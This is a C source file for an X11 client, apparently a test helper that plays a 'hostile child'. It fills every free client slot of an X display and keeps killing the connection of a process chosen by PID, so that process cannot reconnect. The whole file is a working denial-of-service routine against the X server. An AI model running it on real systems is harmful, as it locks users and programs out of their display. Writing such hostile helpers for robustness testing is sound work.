// A hostile child's X client: takes every free client slot of the display, and closes the
// connection of the client whose pid is argv[1] whenever it has one, taking its slot at once, so
// that client cannot come back. Runs until killed; prints "full" once the display is.
// Usage: DISPLAY=:N xfill PID
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <xcb/res.h>
#include <xcb/xcb.h>

static int kill_client(xcb_connection_t *connection, uint32_t wanted) {
    xcb_res_query_clients_reply_t *clients =
        xcb_res_query_clients_reply(connection, xcb_res_query_clients(connection), NULL);
    if (!clients) return 0;
    int killed = 0;
    for (xcb_res_client_iterator_t it = xcb_res_query_clients_clients_iterator(clients); it.rem > 0;
         xcb_res_client_next(&it)) {
        xcb_res_client_id_spec_t spec = {.client = it.data->resource_base,
                                         .mask = XCB_RES_CLIENT_ID_MASK_LOCAL_CLIENT_PID};
        xcb_res_query_client_ids_reply_t *ids =
            xcb_res_query_client_ids_reply(connection, xcb_res_query_client_ids(connection, 1, &spec), NULL);
        if (!ids) continue;
        xcb_res_client_id_value_iterator_t values = xcb_res_query_client_ids_ids_iterator(ids);
        if (values.rem > 0 && xcb_res_client_id_value_value_length(values.data) >= 1 &&
            xcb_res_client_id_value_value(values.data)[0] == wanted) {
            xcb_kill_client(connection, it.data->resource_base);
            killed = 1;
        }
        free(ids);
    }
    free(clients);
    xcb_flush(connection);
    return killed;
}

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    uint32_t wanted = (uint32_t)strtoul(argv[1], NULL, 10);
    xcb_connection_t *held[1024];
    int count = 0, told = 0;
    struct timespec last = {0};
    for (;;) {
        xcb_connection_t *connection = xcb_connect(NULL, NULL);
        if (!xcb_connection_has_error(connection) && count < 1024) {
            held[count++] = connection;
            continue;
        }
        xcb_disconnect(connection);
        if (count == 0) return 2;
        if (!told) {
            printf("full\n");
            fflush(stdout);
            told = 1;
        }
        struct timespec now;
        clock_gettime(CLOCK_MONOTONIC, &now);
        if ((now.tv_sec - last.tv_sec) * 1000 + (now.tv_nsec - last.tv_nsec) / 1000000 > 300) {
            last = now;
            kill_client(held[0], wanted);
        } else {
            usleep(2000);
        }
    }
}
